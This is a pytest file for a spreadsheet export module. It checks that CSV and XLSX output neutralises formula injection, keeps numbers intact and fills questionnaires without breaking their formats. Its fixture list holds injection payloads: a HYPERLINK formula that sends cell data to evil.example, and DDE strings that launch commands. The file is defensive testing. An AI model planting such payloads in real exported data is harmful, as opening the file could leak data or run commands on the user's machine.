"""Tables that are written must not run in a spreadsheet program, and questionnaires come back as they were."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from strongroom.errors import UsageError
from strongroom.spreadsheet import fill_xlsx, neutral, read_grid, write_table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_words_of_a_document_never_become_a_formula(tmp_path: Path, attack: str) -> None:
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"out{suffix}"
        write_table(path, ["a", attack], [[attack, "b"]])
        if suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as source:
                cells = [cell for row in csv.reader(source) for cell in row]
            assert all(cell.startswith("'") for cell in cells if cell not in "ab")
        else:
            for row in load_workbook(path).active.iter_rows():
                for cell in row:
                    assert cell.data_type == "s"
                    assert cell.value in "ab" or cell.value.startswith("'")


def test_numbers_stay_what_they_are() -> None:
    for text in ("-12.5", "+3", "-4%", "2014-05-01", "EUR 3", "", "-", "A = B"):
        assert neutral(text) == text
    assert neutral("a\x00b") == "a\ufffdb"
    assert len(neutral("x" * 40_000)) == 32_767


def test_json_holds_the_items_and_a_wrong_suffix_is_refused(tmp_path: Path) -> None:
    write_table(tmp_path / "a.json", ["x"], [["=1"]])
    assert json.loads((tmp_path / "a.json").read_text()) == [{"x": "=1"}]
    with pytest.raises(UsageError, match="no table"):
        write_table(tmp_path / "a.ods", ["x"], [])
    with pytest.raises(UsageError, match="cannot write"):
        write_table(tmp_path / "nowhere" / "a.csv", ["x"], [])


def test_a_table_is_replaced_in_one_step_and_is_the_owners(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_table(path, ["x"], [["1"]])
    write_table(path, ["x"], [["2"]])
    assert path.read_text("utf-8-sig").split() == ["x", "2"]
    assert path.stat().st_mode & 0o077 == 0
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_an_xlsx_questionnaire_keeps_its_formats_and_formulas(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["No", "Question", "Weight"])
    sheet.append([1, "Who signs?", "=A2*2"])
    sheet["B1"].font = Font(bold=True)
    book.save(tmp_path / "in.xlsx")
    fill_xlsx(tmp_path / "in.xlsx", tmp_path / "out.xlsx", first=3, columns=["Answer"], rows={1: ["=1+1"]})
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet["B1"].font.bold
    assert sheet["C2"].value == "=A2*2"
    assert (sheet["D1"].value, sheet["D2"].value, sheet["D2"].data_type) == ("Answer", "'=1+1", "s")


def test_the_column_of_questions_is_found_or_asked_for(tmp_path: Path) -> None:
    path = tmp_path / "q.csv"
    path.write_text("No;Requirement;By\n1;Who signs?;x\n;;\n2;When?;y\n", encoding="utf-8-sig")
    grid = read_grid(path)
    assert grid.column(None) == grid.column("requirement") == grid.column("B") == 1
    assert len(grid.rows) == 4  # blank rows keep their place
    with pytest.raises(UsageError, match="no column"):
        grid.column("Answer")
    path.write_text("a,b\n1,2\n")
    with pytest.raises(UsageError, match="not clear"):
        read_grid(path).column(None)
    (tmp_path / "bad.xlsx").write_bytes(b"no zip")
    with pytest.raises(UsageError, match="no XLSX"):
        read_grid(tmp_path / "bad.xlsx")
